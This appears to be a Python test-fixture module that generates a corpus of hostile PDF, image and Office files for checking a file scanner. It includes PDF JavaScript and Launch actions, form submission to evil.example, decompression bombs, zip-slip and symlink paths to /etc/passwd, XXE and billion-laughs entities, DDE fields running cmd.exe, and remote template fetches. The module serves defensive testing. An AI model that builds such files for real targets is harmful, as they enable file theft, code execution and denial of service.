"""Hostile files, each made by code here, and the code of the fault that each must be found with."""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

import pikepdf
from PIL import Image

from tests.files import SHEET, WORD, office_bytes, pdf_bytes, picture_bytes, stream, written

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_CORPUS: dict[str, tuple] = {}


@dataclass(frozen=True)
class Hostile:
    name: str
    content: bytes


def _made(name: str, fault: str):
    def register(make):
        assert make.__name__ not in _CORPUS
        _CORPUS[make.__name__] = (name, fault, make)
        return make

    return register


def corpus() -> dict[str, tuple]:
    """By what it tries: the file's name, the fault, and what makes its bytes."""
    return dict(_CORPUS)


# --- PDF files


def _action(body: bytes) -> bytes:
    return pdf_bytes(root=b"/OpenAction 5 0 R", more={5: body})


@_made("脚本.pdf", "active")
def javascript_on_opening():
    return _action(b"<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>")


@_made("脚本.pdf", "active")
def javascript_with_its_name_in_hex():
    return _action(b"<</S/Java#53cript/J#53(app.alert\\(1\\))>>")


@_made("脚本.pdf", "active")
def javascript_in_the_tree_of_names():
    return pdf_bytes(root=b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", more={5: b"<</JS(x)>>"})


@_made("脚本.pdf", "active")
def javascript_when_a_page_is_turned():
    return pdf_bytes(page=b"/AA<</O<</S/JavaScript/JS(x)>>>>")


@_made("脚本.pdf", "active")
def javascript_behind_a_link():
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/JavaScript/JS(x)>>>>"
    return pdf_bytes(page=b"/Annots[5 0 R]", more={5: link})


@_made("脚本.pdf", "active")
def javascript_after_an_ordinary_action():
    return _action(b"<</S/GoTo/D[10 0 R/Fit]/Next<</S/JavaScript/JS(x)>>>>")


@_made("压缩.pdf", "active")
def javascript_in_a_packed_object():
    opened = pikepdf.open(io.BytesIO(javascript_behind_a_link()))
    out = io.BytesIO()
    opened.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


@_made("启动.pdf", "active")
def launches_a_program():
    return _action(b"<</S/Launch/F(cmd.exe)>>")


@_made("提交.pdf", "active")
def sends_a_form():
    return _action(b"<</S/SubmitForm/F(http://evil.example/)>>")


@_made("导入.pdf", "active")
def imports_data():
    return _action(b"<</S/ImportData/F(x.fdf)>>")


@_made("打开.pdf", "active")
def opens_an_address_on_opening():
    return _action(b"<</S/URI/URI(http://evil.example/)>>")


@_made("转到.pdf", "active")
def goes_to_a_share():
    return _action(b"<</S/GoToR/F(\\\\\\\\evil.example\\\\s\\\\a.pdf)/D[0/Fit]>>")


@_made("媒体.pdf", "active")
def rich_media():
    return pdf_bytes(
        page=b"/Annots[5 0 R]", more={5: b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"}
    )


@_made("电影.pdf", "active")
def a_film():
    return pdf_bytes(
        page=b"/Annots[5 0 R]", more={5: b"<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]>>"}
    )


@_made("立体.pdf", "active")
def three_dimensions():
    return pdf_bytes(page=b"/Annots[5 0 R]", more={5: b"<</Type/Annot/Subtype/3D/Rect[0 0 9 9]>>"})


@_made("表单.pdf", "active")
def a_form_of_xml():
    return pdf_bytes(root=b"/AcroForm<</Fields[]/XFA 5 0 R>>", more={5: stream(b"<xdp/>")})


@_made("夹带.pdf", "embedded")
def embedded_file():
    return pdf_bytes(
        root=b"/Names<</EmbeddedFiles<</Names[(a) 5 0 R]>>>>",
        more={5: b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>",
              6: stream(b"MZ", b"/Type/EmbeddedFile")},
    )  # fmt: skip


@_made("夹带.pdf", "embedded")
def file_in_a_remark():
    note = b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.exe)/EF<</F 6 0 R>>>>>>"
    return pdf_bytes(page=b"/Annots[5 0 R]", more={5: note, 6: stream(b"MZ")})


@_made("公文包.pdf", "embedded")
def a_portfolio():
    return pdf_bytes(root=b"/Collection<</View/D>>")


@_made("外部.pdf", "reaches_out")
def content_from_another_file():
    return pdf_bytes(more={5: stream(b"", b"/F(\\\\\\\\evil.example\\\\x)")})


def _encrypted(**how) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_bytes())) as opened:
        opened.save(out, encryption=pikepdf.Encryption(**how))
    return out.getvalue()


@_made("加密.pdf", "encrypted")
def needs_a_password():
    return _encrypted(owner="a", user="b")


@_made("加密.pdf", "encrypted")
def opens_without_its_password():
    return _encrypted(owner="a", user="")


@_made("页数.pdf", "pages")
def far_too_many_pages():
    return pdf_bytes(pages=501)


@_made("无页.pdf", "damaged")
def no_page():
    return written({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 0/Kids[]>>"})


@_made("炸弹.pdf", "unpacks")
def unpacks_to_two_hundred_megabytes():
    packed = zlib.compress(bytes(1024 * 1024) * 220, 9)
    return pdf_bytes(more={5: stream(packed, b"/Filter/FlateDecode")})


@_made("炸弹.pdf", "unpacks")
def packed_twice():
    packed = zlib.compress(zlib.compress(bytes(1024 * 1024) * 100, 9), 9)
    return pdf_bytes(more={5: stream(packed, b"/Filter[/FlateDecode/FlateDecode]")})


@_made("炸弹.pdf", "damaged")
def a_table_of_objects_that_unpacks_without_end():
    packed = zlib.compress(b"1 0 " + bytes(1024 * 1024) * 100, 9)
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>",
               5: stream(packed, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")}  # fmt: skip
    return written(objects)


@_made("像素.pdf", "pixels")
def a_picture_of_ten_thousand_million_points():
    image = b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceGray"
    return pdf_bytes(more={5: stream(b"x", image + b"/BitsPerComponent 1")})


@_made("嵌套.pdf", "damaged")
def nested_without_end():
    return b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\n%%EOF\n"


@_made("环.pdf", "damaged")
def pages_that_contain_themselves():
    return written({1: b"<</Type/Catalog/Pages 2 0 R>>",
                    2: b"<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>"})  # fmt: skip


@_made("网页.pdf", "damaged")
def a_web_page():
    return b"<html><script>alert(1)</script></html>"


@_made("网页.pdf", "damaged")
def a_web_page_before_the_paper():
    return b"<html><script>alert(1)</script>" + pdf_bytes()


@_made("双面.pdf", "damaged")
def a_paper_that_is_an_archive_too():
    return pdf_bytes() + office_bytes({}) + b"%%EOF"


@_made("断.pdf", "damaged")
def cut_off():
    return pdf_bytes()[:200]


@_made("空壳.pdf", "damaged")
def head_and_tail_with_nothing_between():
    return b"%PDF-1.7\n1 0 obj\n%%EOF\n"


# --- Pictures


@_made("巨.png", "pixels")
def a_picture_of_ninety_million_points():
    return picture_bytes("PNG", (10_000, 9_000), "1")


def _png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), *chunks, (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*one) for one in parts)


@_made("谎.png", "pixels")
def says_four_thousand_million_a_side():
    return _png(4_000_000_000 % 2**31, 2_000_000_000)


@_made("谎.png", "damaged")
def has_fewer_points_than_it_says():
    return _png(5000, 5000, (b"IDAT", zlib.compress(b"\0" * 100)))


@_made("文字.png", "damaged")
def a_remark_that_unpacks_without_end():
    body = b"a\0\0" + zlib.compress(bytes(100 * 1024 * 1024), 9)
    return _png(1, 1, (b"zTXt", body), (b"IDAT", zlib.compress(b"\0\0\0\0")))


@_made("坏.png", "damaged")
def head_of_a_picture_only():
    return b"\x89PNG\r\n\x1a\n123"


@_made("其实是png.jpg", "damaged")
def another_kind_of_picture():
    return picture_bytes("PNG")


@_made("动图.png", "damaged")
def a_gif():
    return picture_bytes("GIF")


@_made("矢量.png", "damaged")
def a_drawing_with_a_script():
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@_made("断.jpg", "damaged")
def a_photograph_cut_off():
    whole = io.BytesIO()
    Image.effect_noise((300, 300), 80).save(whole, "JPEG")
    return whole.getvalue()[: len(whole.getvalue()) // 2]


@_made("程序.jpg", "damaged")
def a_program_by_another_name():
    return b"MZ" + bytes(500)


# --- Office files


@_made("大.docx", "unpacks")
def unpacks_a_thousandfold():
    return office_bytes({WORD: b"0" * 30_000_000})


@_made("多.xlsx", "unpacks")
def ten_thousand_parts():
    return office_bytes({f"xl/a{n}.bin": b"" for n in range(6_000)}, main=SHEET)


@_made("叠.docx", "damaged")
def parts_that_lie_over_each_other():
    whole = bytearray(office_bytes({"a.bin": b"x" * 900, "b.bin": b"x" * 900}))
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        first, second = archive.getinfo("a.bin"), archive.getinfo("b.bin")
    at = whole.rindex(struct.pack("<I", second.header_offset))
    whole[at : at + 4] = struct.pack("<I", first.header_offset)
    return bytes(whole)


@_made("重.docx", "damaged")
def the_same_part_twice():
    return office_bytes({"word/a.xml": b"<x/>", "word/A.xml": b"<y/>"})


@_made("校验.docx", "damaged")
def a_part_that_was_changed():
    whole = bytearray(office_bytes({"word/media/a.png": bytes(range(256))}))
    at = whole.index(b"word/media/a.png") + 20
    whole[at] ^= 0xFF
    return bytes(whole)


@_made("逃.docx", "damaged")
def a_way_out_of_the_archive():
    return office_bytes({"../../etc/passwd": b"x"})


@_made("根.docx", "damaged")
def a_part_at_the_root():
    return office_bytes({"/etc/passwd": b"x"})


@_made("链.docx", "damaged")
def a_link_to_another_file():
    out = io.BytesIO(office_bytes({}))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


@_made("密.docx", "encrypted")
def office_file_with_a_password():
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 99


@_made("错.docx", "damaged")
def a_sheet_by_the_name_of_a_letter():
    return office_bytes({}, main=SHEET)


@_made("包.docx", "damaged")
def an_archive_of_anything():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "x")
    return out.getvalue()


@_made("宏.docx", "macros")
def macros():
    return office_bytes({"word/vbaProject.bin": b"x"})


@_made("宏.xlsx", "macros")
def macros_declared():
    types = (
        b'<Types><Override PartName="/a" '
        b'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
    )
    return office_bytes({}, main=SHEET, types=types)


@_made("旧宏.xlsx", "macros")
def sheets_of_old_macros():
    return office_bytes({"xl/macrosheets/sheet1.xml": b"<x/>"}, main=SHEET)


@_made("程序.docx", "macros")
def a_program_among_the_parts():
    return office_bytes({"word/media/a.exe": b"MZ"})


@_made("对象.docx", "reaches_out")
def an_embedded_object():
    return office_bytes({"word/embeddings/oleObject1.bin": b"MZ"})


@_made("控件.docx", "reaches_out")
def a_control():
    return office_bytes({"word/activeX/activeX1.xml": b"<x/>"})


@_made("菜单.docx", "reaches_out")
def a_menu_of_its_own():
    return office_bytes({"customUI/customUI.xml": b"<x/>"})


@_made("连接.xlsx", "reaches_out")
def connections_to_data():
    return office_bytes({"xl/connections.xml": b"<x/>"}, main=SHEET)


def _relation(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"'
        f' TargetMode="External"/></Relationships>'
    ).encode()


@_made("模板.docx", "reaches_out")
def a_template_from_elsewhere():
    relation = _relation("attachedTemplate", "http://evil.example/x.dotm")
    return office_bytes({"word/_rels/settings.xml.rels": relation})


@_made("模板.docx", "reaches_out")
def a_template_whose_relation_is_written_in_numbers():
    relation = _relation("attached&#84;emplate", "http://evil.example/x.dotm")
    return office_bytes({"word/_rels/settings.xml.rels": relation})


@_made("实体.docx", "reaches_out")
def an_entity_of_a_file():
    return office_bytes(
        {
            WORD: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
        }
    )


@_made("实体.docx", "reaches_out")
def an_entity_behind_a_long_remark():
    remark = b"<!--" + b"-x" * 40_000 + b"-->"
    body = remark + b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    return office_bytes({WORD: body, "word/media/a.bin": bytes(range(256)) * 99})


@_made("实体.docx", "reaches_out")
def an_entity_in_wide_letters():
    return office_bytes({WORD: '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("utf-16")})


@_made("笑.docx", "reaches_out")
def entities_that_multiply():
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    body = f'<!DOCTYPE a [<!ENTITY l0 "哈">{lines}]><a>&l9;</a>'
    return office_bytes({WORD: body.encode()})


@_made("域.docx", "reaches_out")
def a_field_that_runs_a_program():
    body = (
        f"<w:p {W}><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:p>"
    )
    return office_bytes({WORD: body.encode()})


@_made("域.docx", "reaches_out")
def a_field_that_fetches():
    body = f'<w:p {W}><w:fldSimple w:instr="INCLUDETEXT http://evil.example/x"/></w:p>'
    return office_bytes({WORD: body.encode()})


@_made("链接.xlsx", "reaches_out")
def a_link_to_a_program():
    return office_bytes({"xl/externalLinks/a.xml": b'<ddeLink ddeService="cmd"/>'}, main=SHEET)


# --- Names and sizes


@_made("病毒.exe", "kind")
def a_program():
    return b"MZ"


@_made("没有扩展名", "kind")
def no_ending():
    return b"x"


@_made("凭证.pdf.html", "kind")
def two_endings():
    return pdf_bytes()


@_made("图.svg", "kind")
def a_drawing():
    return b"<svg/>"


@_made("空.pdf", "empty")
def nothing():
    return b""
